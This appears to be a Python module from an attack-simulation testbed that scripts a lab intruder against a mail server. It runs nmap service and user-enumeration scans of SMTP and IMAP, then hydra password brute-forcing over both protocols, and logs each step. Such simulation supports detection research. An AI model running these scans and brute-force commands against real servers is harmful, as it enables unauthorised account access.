"""The intruder at the mail server: what it is, who is there, and their passwords."""

import random

from attacks.passwords import word_lists

PROBE = {"mail": "foothold:service_scan"}
GUESS = {"mail": "login_bruteforce"}


def probe(lab):
    """nmap's questions to SMTP and IMAP."""
    address = [lab.testbed.intruder.address]
    scans = [("nmap-mail", ["-sV", "-p", "25,143"]),
             ("nmap-smtp", ["-p", "25", "--script", "smtp-commands,smtp-open-relay,smtp-enum-users", "--script-args", "smtp-enum-users.methods={VRFY,EXPN,RCPT}"]),
             ("nmap-imap", ["-sT", "-p", "143", "--script", "imap-capabilities,imap-ntlm-info"])]
    for name, arguments in scans[:1] if lab.testbed.short else scans:
        with lab.journal.step(name, "nmap", address, PROBE):
            lab.attacker.attempt(["nmap", "-Pn", "-n", *arguments, lab.mail.address], timeout=45)


def passwords(lab):
    """Guess passwords with hydra, over IMAP and SMTP."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 550)
    hit = next(person for person in bed.people if person.weak)
    for service in ("imap", "smtp"):
        users, words = word_lists(lab, rng, hit, f"-{service}")
        with lab.journal.step(f"hydra-{service}", "hydra", [bed.intruder.address], GUESS):
            lab.attacker.attempt(["hydra", "-t", "4", "-I", "-L", users, "-P", words, f"{service}://{lab.mail.address}"], timeout=12 if bed.short else 40)
